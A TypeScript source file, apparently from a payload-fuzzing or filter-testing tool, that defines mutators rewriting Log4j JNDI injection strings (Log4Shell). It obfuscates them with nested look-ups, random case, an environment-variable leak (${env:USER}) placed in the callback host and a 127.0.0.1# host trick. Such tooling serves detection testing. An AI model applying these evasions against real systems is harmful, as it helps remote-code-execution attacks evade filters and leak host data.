// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of look-ups
import type { Random } from '../../../random.js';
import { familyMutator, rewriteOne } from '../../family-mutator.js';

const mutator = familyMutator('template', /^log4j$/);
const WORD = /(?<=\$\{|:)(jndi|ldaps?|rmi|dns)(?=:)/gi;
const lettered = (name: string, write: (letter: string, random: Random) => string) =>
  mutator(name, (text, random) =>
    rewriteOne(text, random, {
      pattern: WORD,
      write: ([word]) => {
        const at = random.below(word.length);
        return `${word.slice(0, at)}${write(word[at] ?? '', random)}${word.slice(at + 1)}`;
      },
    }),
  );

/** Log4j's own look-ups, nested (its manual, "Lookups"). */
export const JNDI_MUTATORS = [
  lettered('jndi-lower', (letter) => `\${lower:${letter}}`),
  lettered('jndi-upper', (letter) => `\${upper:${letter}}`),
  lettered('jndi-default', (letter) => `\${::-${letter}}`),
  lettered('jndi-environment', (letter, random) => `\${env:${random.pick(['X', 'NaN', 'BARFOO', 'a'])}:-${letter}}`),
  lettered('jndi-system', (letter) => `\${sys:x:-${letter}}`),
  lettered('jndi-nested-default', (letter) => `\${\${::-${letter}}:-${letter}}`),
  lettered('jndi-unknown', (letter) => `\${x:y:-${letter}}`),
  lettered('jndi-date', (letter) => `\${date:'${letter}'}`),
  mutator('jndi-word', (text, random) =>
    rewriteOne(text, random, { pattern: WORD, write: ([word]) => `\${lower:${word}}` }),
  ),
  mutator('jndi-colon', (text) => text.replace(/(?<=jndi):/i, '${::-:}')),
  mutator('jndi-case', (text, random) =>
    rewriteOne(text, random, {
      pattern: WORD,
      write: ([word]) => [...word].map((one) => (random.chance(0.5) ? one.toUpperCase() : one)).join(''),
    }),
  ),
  mutator('jndi-leak', (text) => text.replace('://', '://${env:USER}.')),
  mutator('jndi-address', (text) => text.replace('://', '://127.0.0.1#')),
  mutator('jndi-twice', (text) => `${text}${text}`),
];
